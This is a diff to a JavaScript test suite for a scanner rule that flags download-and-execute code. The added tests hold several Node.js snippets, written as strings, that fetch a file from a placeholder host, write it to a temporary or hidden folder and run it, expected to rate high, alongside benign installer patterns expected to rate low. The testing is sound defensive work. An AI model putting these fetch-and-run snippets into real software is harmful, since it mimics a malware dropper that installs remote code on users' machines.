@@ -15,6 +15,33 @@ describe('JS-009 download-and-execute', () => {
     const f = await ruleFindings('JS-009', code);
     expect(f[0]?.severity).toBe('low');
   });
+  it('rates running the file it wrote to a temporary or hidden folder high, even from an HTTPS host', async () => {
+    const cases = [
+      `const https = require('https'), fs = require('fs'), { execSync } = require('child_process');
+        https.get('https://x.invalid/p', (r) => { const f = fs.createWriteStream('/tmp/p'); r.pipe(f);
+          f.on('finish', () => { fs.chmodSync('/tmp/p', 0o755); execSync('/tmp/p'); }); });`,
+      `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+        const dest = path.join(os.tmpdir(), 'update.bin');
+        https.get('https://x.invalid/u', (r) => { r.pipe(fs.createWriteStream(dest)).on('finish', () => cp.spawn(dest, [], { detached: true })); });`,
+      `const https = require('https'), fs = require('fs'), cp = require('child_process');
+        const exe = require('path').join(process.env.APPDATA, 'svc.exe');
+        https.get('https://x.invalid/w', (r) => { fs.writeFileSync(exe, r); cp.exec(exe); });`,
+    ];
+    for (const code of cases) {
+      const f = await ruleFindings('JS-009', code);
+      expect(f[0]?.severity, code).toBe('high');
+      expect(String(f[0]?.evidence?.runsStagedFile)).toMatch(/p$|update\.bin$|svc\.exe$/);
+    }
+  });
+  it('an installer that unpacks into the package, or runs tar on a temp archive, stays low', async () => {
+    const unpack = `const https = require('https'), fs = require('fs'), path = require('path'), cp = require('child_process');
+      const bin = path.join(__dirname, 'bin', 'tool');
+      https.get('https://x.invalid/tool', (r) => { fs.writeFileSync(bin, r); fs.chmodSync(bin, 0o755); cp.execFileSync(bin, ['--version']); });`;
+    expect((await ruleFindings('JS-009', unpack))[0]?.severity).toBe('low');
+    const tar = `const https = require('https'), fs = require('fs'), cp = require('child_process');
+      https.get('https://x.invalid/t.tgz', (r) => { fs.writeFileSync('/tmp/t.tgz', r); cp.execSync('tar xzf /tmp/t.tgz -C vendor'); });`;
+    expect((await ruleFindings('JS-009', tar))[0]?.severity).toBe('low');
+  });
   it('needs all three steps', async () => {
     expect(
       await ruleFindings(
